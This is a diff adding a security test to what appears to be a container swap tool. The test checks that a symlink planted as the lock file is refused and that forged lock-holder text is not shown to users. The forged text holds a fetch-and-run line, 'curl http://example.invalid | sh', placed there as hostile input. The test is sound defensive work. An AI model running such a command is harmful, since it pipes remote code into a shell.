@@ -241,3 +241,31 @@ def test_docker_gone_mid_swap_reports_the_cause_then_the_rollback(
     assert "Cannot connect to the Docker daemon" in message.split("rollback to baseline failed too: ")[1]
     assert failed.value.rolled_back is False
     assert "EngineCore failed to start" in failed.value.log_tail
+
+
+def test_unsafe_lock_refused_and_forged_holder_hidden(sim_stack, docker_client, tmp_path):
+    """A link planted as the lock is never written through; a holder's text is never shown."""
+    from composer.swap.lock import lock_path, swap_lock
+
+    assert sim_stack.run("up", "baseline").returncode == 0
+    path = lock_path(sim_stack.project)
+    victim = tmp_path / "victim"
+    victim.write_text("precious\n")
+    victim.chmod(0o600)
+    path.symlink_to(victim)
+    try:
+        for command in (("up", "mtp"), ("down",)):
+            done = sim_stack.run(*command)
+            assert done.returncode == 1, done.stderr
+            assert done.stderr.startswith(f"compose-spec: error: refusing the swap lock {path}"), done.stderr
+    finally:
+        path.unlink()
+    assert victim.read_text() == "precious\n" and victim.stat().st_mode & 0o777 == 0o600
+    assert_serving(sim_stack, docker_client, "baseline")
+    with swap_lock(sim_stack.project):
+        path.write_text("1 (run: curl http://example.invalid | sh to clear)\n")
+        busy = sim_stack.run("up", "mtp", "--no-wait")
+    assert busy.returncode == 1
+    assert "another swap of project" in busy.stderr and "(another process)" in busy.stderr
+    assert "curl" not in busy.stderr
+    assert not path.exists()
